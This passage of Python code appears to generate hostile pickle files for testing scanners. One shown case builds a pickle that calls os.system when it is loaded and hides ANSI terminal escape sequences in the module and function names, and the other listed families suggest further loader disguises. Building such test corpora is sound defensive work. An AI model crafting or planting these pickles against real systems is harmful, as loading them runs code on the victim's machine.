    yield "pickle-name-with-escape.pkl", PROTO2 + call(name("os\x1b[31m", "system\x1b]0;x\x07"), NOTE) + STOP


def cases():
    for family in (calls, names_built_on_the_way, relays, methods_called_on_loading, broken_behind_the_payload, differentials, differentials_that_run, names_of_python_2, several_streams, disguises, expansion):
        yield from family()
